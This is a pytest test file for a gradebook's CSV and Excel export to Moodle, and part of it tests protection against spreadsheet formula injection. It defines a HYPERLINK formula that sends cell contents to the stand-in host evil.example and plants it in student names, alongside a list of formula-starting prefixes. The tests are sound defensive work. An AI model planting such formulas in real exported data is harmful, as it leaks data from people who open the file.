"""Marks as files: read back by csv, by openpyxl, and by Moodle's own rules."""

import csv
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from accounts.errors import Refusal
from accounts.models import User
from courses.models import Course, Pair
from gradebook import exporting
from gradebook.columns import Column, check, columns_from, moved, usual_columns
from gradebook.exporting import Table, as_csv, as_xlsx, table_of
from gradebook.rows import rows_of
from gradebook.rules import Rules
from tests.builders import make_pair
from tests.gradebook import moodle


@pytest.fixture(autouse=True)
def _in_english() -> Iterator[None]:
    with translation.override("en"):
        yield


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"mark")'


def columns(*sources: str) -> tuple[Column, ...]:
    """These, in this order, under their English headings; the others left out."""
    usual = {column.source: column for column in usual_columns("en")}
    wanted = [Column(source, usual[source].heading, True) for source in sources]
    others = [Column(source, column.heading, False) for source, column in usual.items() if source not in sources]
    return (*wanted, *others)


def table(course: Course, *sources: str, with_drafts: bool = False) -> Table:
    return table_of(rows_of(course, Rules()), columns(*sources), with_drafts=with_drafts)


def people(course: Course, field: str) -> dict[str, int]:
    return dict(User.objects.filter(pairs__course=course).values_list(field, "pk"))


@pytest.mark.parametrize(("separator", "point"), [(",", "."), (";", ","), (",", ","), ("\t", ".")])
def test_moodle_finds_each_person_and_their_marks(marked: Course, separator: str, point: str) -> None:
    found = table(marked, "last_name", "username", "capsule", "final", "feedback")
    content = as_csv(found, separator=separator, point=point).encode()
    items = {"Capsule": "capsule", "Final mark": "final", "Feedback: Final mark": "feedback:final"}
    users = people(marked, "username")
    grades = moodle.load(content, users, map_from="Username", items=items, separator=separator, point=point)
    assert grades[users["ana"]]["capsule"] == 15.5
    assert grades[users["bob"]]["final"] == 14.5
    assert "capsule 14.50/20 (100%)" in str(grades[users["bob"]]["feedback:final"])


def test_a_draft_is_in_no_file_unless_it_is_asked_for_and_then_it_says_so(marked: Course) -> None:
    plain = {line[0]: line for line in table(marked, "username", "capsule", "final").lines}
    assert plain["cleo"] == ("cleo", None, None)
    asked = table(marked, "username", "capsule", "final", with_drafts=True)
    assert asked.headings == ("Username", "Capsule", "Final mark", "State")
    lines = {line[0]: line for line in asked.lines}
    assert lines["cleo"] == ("cleo", Decimal("8.00"), Decimal("8.00"), "draft")
    assert lines["ana"][-1] == "final"


def test_whoever_has_no_identifier_is_left_out_since_moodle_would_refuse_everybody(marked: Course) -> None:
    by_mail = table(marked, "email", "final")
    assert [row.person.username for row in by_mail.left_out] == ["cleo"]
    users = people(marked, "email")
    grades = moodle.load(as_csv(by_mail).encode(), users, map_from="Email address", items={"Final mark": "final"})
    assert set(grades) == {users["ana@example.org"], users["bob@example.org"]}
    with pytest.raises(moodle.ImportFailed):
        moodle.load("﻿Email address,Final mark\r\n,12\r\n".encode(), users, map_from="Email address", items={})


def test_an_address_of_two_people_is_named(marked: Course) -> None:
    User.objects.filter(username="bob").update(email="Ana@example.org")
    assert table(marked, "email", "final").shared == ("ana@example.org",)


def test_accents_survive_excel_and_a_comma_inside_a_cell_is_quoted(marked: Course, told: Pair) -> None:
    told.members.filter(username="ana").update(last_name='Élisée, dite "É"')
    content = as_csv(table(marked, "last_name", "username", "final"), point=",").encode()
    assert content.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert ['Élisée, dite "É"', "ana", "15,50"] in read
    assert b"\r\n" in content
    assert not as_csv(table(marked, "username"), with_mark=False).startswith("\ufeff")


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t=", "\r="])
def test_no_name_is_ever_a_formula(marked: Course, told: Pair, begins: str) -> None:
    name = begins + FORMULA[1:]
    told.members.filter(username="ana").update(last_name=name)
    name = name.strip()
    found = table(marked, "last_name", "username", "final")
    read = list(csv.reader(io.StringIO(as_csv(found).removeprefix("\ufeff"), newline="")))
    assert f"'{name}" in {line[0] for line in read}
    sheet = load_workbook(io.BytesIO(as_xlsx(found, title="Vision"))).active
    cells = {cell.value: cell for (cell, *_) in sheet.iter_rows()}  # type: ignore[union-attr]
    cell = cells[name]
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_a_formula_in_a_heading_is_text_too(marked: Course) -> None:
    named = [Column("username", "=1+1", True), *columns("final")]
    unique = [column for place, column in enumerate(named) if place == 0 or column.source != "username"]
    found = table_of(rows_of(marked, Rules()), unique, with_drafts=False)
    assert as_csv(found).startswith("\ufeff'=1+1,")
    sheet = load_workbook(io.BytesIO(as_xlsx(found, title="x"))).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")  # type: ignore[index]


def test_a_workbook_holds_numbers_as_numbers_and_nothing_for_nothing(marked: Course) -> None:
    content = as_xlsx(table(marked, "last_name", "username", "final"), title="TP: vision [2026] / É*?")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    lines = {line[1]: line for line in sheet.iter_rows(values_only=True)}
    assert lines["Username"] == ("Last name", "Username", "Final mark")
    assert lines["ana"] == ("Élisée", "ana", 15.5)
    assert lines["cleo"][2] is None
    assert sheet["C2"].number_format == "0.00"
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_characters_that_no_workbook_can_hold_are_dropped(marked: Course, told: Pair) -> None:
    told.members.filter(username="ana").update(last_name="A\x00n\x0ba")
    found = table(marked, "last_name", "username")
    assert ("Ana", "ana") in found.lines
    load_workbook(io.BytesIO(as_xlsx(found, title="\x01")))


def test_a_class_without_anybody_gives_headings_alone(course: Course) -> None:
    empty = table(course, "username", "final")
    assert as_csv(empty) == "\ufeffUsername,Final mark\r\n"
    load_workbook(io.BytesIO(as_xlsx(empty, title="")))


def test_sign_in_names_that_begin_like_a_formula_are_pointed_out(course: Course) -> None:
    make_pair(course, "1", "-2+3", "@ana", "bob")
    assert sorted(table(course, "username", "final").guarded) == ["-2+3", "@ana"]
    assert exporting.DANGEROUS[:4] == ("=", "+", "-", "@")


# --- the column map ---------------------------------------------------------------------------------------------------


def test_a_saved_map_keeps_its_order_and_learns_what_is_new_without_including_it() -> None:
    saved = [
        {"source": "final", "heading": "Note", "is_included": True},
        {"source": "gone", "heading": "Old", "is_included": True},
        {"source": "username", "heading": "Login", "is_included": True},
    ]
    found = columns_from(saved, "fr")
    assert [(column.source, column.heading) for column in found[:2]] == [("final", "Note"), ("username", "Login")]
    assert not any(column.is_included for column in found[2:])
    assert {column.source for column in found} == {column.source for column in usual_columns("fr")}


def test_a_column_moves_one_place_and_not_over_the_edge() -> None:
    usual = usual_columns("en")
    assert moved(usual, 1, -1)[:2] == (usual[1], usual[0])
    assert moved(usual, 0, -1) == usual
    assert moved(usual, len(usual) - 1, 1) == usual
    assert moved(usual, 99, 1) == usual


@pytest.mark.parametrize(
    ("shown", "code"),
    [
        (columns("last_name", "final"), "columns_identify_nobody"),
        ((Column("username", "", True),), "columns_heading"),
        ((Column("username", "a\x00", True),), "columns_heading"),
        ((Column("username", "x" * 61, True),), "columns_heading"),
        ((Column("username", "Mark", True), Column("final", " mark ", True)), "columns_heading"),
    ],
)
def test_a_map_that_no_file_can_follow_is_refused(shown: tuple[Column, ...], code: str) -> None:
    with pytest.raises(Refusal) as refused:
        check(shown)
    assert refused.value.code == code


def test_headings_are_tidied_and_what_is_left_out_may_be_called_anything() -> None:
    tidy = check((Column("username", "  Sign-in \n name ", True), Column("final", "", False)))
    assert tidy[0].heading == "Sign-in name"
